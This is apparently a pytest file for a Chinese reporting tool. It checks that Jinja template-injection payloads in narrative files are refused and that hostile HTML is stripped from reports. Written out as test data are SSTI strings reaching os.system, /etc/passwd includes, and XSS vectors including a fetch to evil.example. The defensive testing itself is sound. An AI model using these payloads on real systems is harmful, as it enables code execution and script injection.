"""Hostile narratives: SSTI payloads are refused before rendering, nothing runs, HTML is clean."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from conftest import SAMPLE_DATA

from fzdata.analysis.analyse import analyse_year
from fzdata.report.guard import template_problems
from fzdata.report.narrative import NarrativeError, report_html

SECTIONS = "## 第一责任人\n\n无\n\n## 举措和成效\n\n{body}\n\n## 不足和整改\n\n无\n\n## 下一年度安排\n\n无\n\n## 其他情况\n\n无\n"

#: Known server-side template injection payloads; {m} is a marker file one of them would create.
PAYLOADS = [
    "{{ lipsum.__globals__['os'].popen('touch {m}').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch {m}') }}",
    "{{ joiner.__init__.__globals__.os.system('touch {m}') }}",
    "{{ namespace.__init__.__globals__.os.system('touch {m}') }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch {m}') }}",
    "{{ self.__init__.__globals__.__builtins__.open('{m}', 'w') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ 指标|attr('__class__') }}",
    "{{ ('%c'|format(95))*2 }}",
    "{{ '{0.__class__}'.format(单位) }}",
    "{{ '{0.__init__.__globals__[os].environ}'.format(cycler) }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').system('touch {m}') }}{% endif %}{% endfor %}",
    "{{ 1337*1337 }}",
    "{{ 7*'7' }}",
    "{{ 'Z'*100000000 }}",
    "{{ 9**9**9 }}",
    "{% set 单位 = 'x' %}",
    "{% include '/etc/passwd' %}",
    "{% import '/etc/passwd' as p %}",
    "{% extends '/etc/hostname' %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% raw %}{{ 1337*1337 }}{% endraw %}",
    "{{ 指标.__class__ }}",
    "{{ 指标['__class__'] }}",
    '{{ 指标["__cla" ~ "ss__"] }}',
    "{{ 指标.普法宣传活动.__class__.__init__.__globals__ }}",
    "{{ 单位.__class__.__mro__[1].__subclasses__() }}",
    "{{ 指标.pop('普法宣传活动') }}",
    "{{ 指标.items }}",
    "{{ 自动.成效|safe }}",
    "{{ range(10**10)|list }}",
    "{{ " + "(" * 2000 + "1" + ")" * 2000 + " }}",
]


@pytest.fixture(scope="module")
def analysis():
    return analyse_year(SAMPLE_DATA, "李庄乡", 2023)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_refused_before_rendering(analysis, tmp_path: Path, payload: str) -> None:
    marker = tmp_path / "pwned"
    narrative = tmp_path / "narrative.md"
    body = "第一行。\n\n" + payload.replace("{m}", str(marker))
    narrative.write_text(SECTIONS.format(body=body), encoding="utf-8")
    started = time.perf_counter()
    with pytest.raises(NarrativeError) as exc:
        report_html(analysis, narrative=narrative)
    assert time.perf_counter() - started < 5
    assert exc.value.problems and exc.value.problems[0][0] == 9  # the payload's line
    assert "Traceback" not in str(exc.value)
    assert not marker.exists()


def test_all_problems_listed_at_once() -> None:
    text = "{{ 1+1 }}\n{% for x in y %}{% endfor %}\n{{ 单位 }}\n{{ 指标.__class__ }}\n{{ x|e }}"
    lines = [line for line, _ in template_problems(text)]
    assert lines == [1, 2, 4, 5]


def test_syntax_error_still_lists_every_tag() -> None:
    text = "{{ 指标. }}\n{{ 1*2 }}\n{% if %}"
    problems = template_problems(text)
    assert [line for line, _ in problems] == [1, 2, 3]


def test_documented_placeholders_pass() -> None:
    text = '{{ 单位 }}{{ 年份 }}{{ 指标.普法宣传活动 }}{{ 指标["检查企业、施工地"] }}{# 注释 #}'
    assert template_problems(text) == []


HOSTILE_HTML = """<script>fetch('http://evil.example/x')</script>
<img src="http://evil.example/t.png"><img src=x onerror="alert(1)">
<a href="javascript:alert(1)">j</a> <a href="JaVaScRiPt:alert(1)">k</a> <a href="&#106;avascript:1">l</a>
<iframe src="http://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">
<svg onload="alert(1)"><script>alert(2)</script></svg><style>@import url(http://evil.example/x.css)</style>
<form action="http://evil.example"><input name=q></form><meta http-equiv="refresh" content="0;url=http://evil.example">
<base href="http://evil.example/"><link rel=stylesheet href="http://evil.example/x.css">
<details open ontoggle="alert(1)">d</details><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<p style="background:url(http://evil.example/bg)">样式</p> [x](vbscript:msgbox) ![t](http://evil.example/i.png)
<a href="data:text/html,<script>alert(1)</script>">d</a> <https://evil.example/auto>"""


def test_hostile_html_is_sanitised(analysis, tmp_path: Path) -> None:
    narrative = tmp_path / "narrative.md"
    body = "正文保留。\n\n{{ 图.指标趋势 }}\n\n" + HOSTILE_HTML
    narrative.write_text(SECTIONS.format(body=body), encoding="utf-8")
    html = report_html(analysis, narrative=narrative)
    soup = BeautifulSoup(html, "html.parser")
    assert "正文保留" in soup.get_text()
    for tag in (
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "style",
        "meta",
        "base",
        "link",
        "svg",
        "input",
    ):
        assert not soup.find_all(tag), tag
    for el in soup.find_all(True):
        for attr, value in el.attrs.items():
            assert not attr.startswith("on"), (el.name, attr)
            assert attr != "style" or el.name in ("h1", "p"), (el.name, attr)
            v = " ".join(value) if isinstance(value, list) else value
            assert "javascript" not in v.lower() and "vbscript" not in v.lower()
            assert "evil.example" not in v and "data:text/html" not in v
    imgs = [i["src"] for i in soup.find_all("img") if i.get("src")]
    assert imgs and all(s.startswith("data:image/png;base64,") for s in imgs)


def test_check_and_lint_refuse_the_same_narrative(tmp_path: Path, capsys) -> None:
    import shutil

    from fzdata.cli import main

    data = tmp_path / "data"
    shutil.copytree(
        SAMPLE_DATA / "李庄乡",
        data / "李庄乡",
        ignore=shutil.ignore_patterns("2021", "2022", "2024"),
    )
    marker = tmp_path / "pwned"
    narrative = data / "李庄乡" / "2023" / "narrative.md"
    body = (
        "{{ cycler.__init__.__globals__.os.system('touch "
        + str(marker)
        + "') }}\n{% include 'x' %}"
    )
    narrative.write_text(SECTIONS.format(body=body), encoding="utf-8")
    assert main(["check", "--data", str(data)]) == 1
    out = capsys.readouterr().out
    assert (
        "narrative.md 第7行：不支持的写法「{{ cycler" in out
        and "第8行：不支持的写法：语句 {% include %}" in out
    )
    assert main(["lint", str(narrative)]) == 1
    out = capsys.readouterr().out
    assert ":7:1: 错误 [template]" in out and ":8:1: 错误 [template]" in out
    assert not marker.exists()


def test_notebook_tables_escape_every_text_cell(monkeypatch) -> None:
    import pandas as pd

    from fzdata import nb

    shown = []
    monkeypatch.setattr(nb, "display", lambda obj: shown.append(obj.data))
    df = pd.DataFrame(
        {
            "名称": pd.array(
                ['<img src=x onerror="alert(1)">', '<a href="javascript:x">村</a>'], dtype="string"
            )
        }
    )
    nb.table(df, "findings")
    (html,) = shown
    assert "<img" not in html and "<a " not in html and 'href="' not in html
    assert "&lt;img src=x onerror=" in html and 'onerror="' not in html  # quotes escaped too


def test_image_size_attributes_are_numbers_on_own_charts_only() -> None:
    """The report's charts carry their shown size; the sanitiser keeps width and height only
    as small numbers, and only on an image it keeps at all (one of the report's own)."""
    from fzdata.report.sanitize import clean

    own = "data:image/png;base64,iVBORw0KGgo="
    html = clean(
        f'<img src="{own}" width="566" height="99999" alt="图">'
        f'<img src="{own}" width="100%;x:expression(1)" height="1e9">'
        '<img src="data:image/png;base64,AAAA" width="10" height="10">',
        {own},
    )
    soup = BeautifulSoup(html, "html.parser")
    imgs = soup.find_all("img")
    assert imgs[0].get("width") == "566" and imgs[0].get("height") is None
    assert imgs[1].get("width") is None and imgs[1].get("height") is None
    assert all(i.get("src") == own or not i.get("src") for i in imgs)
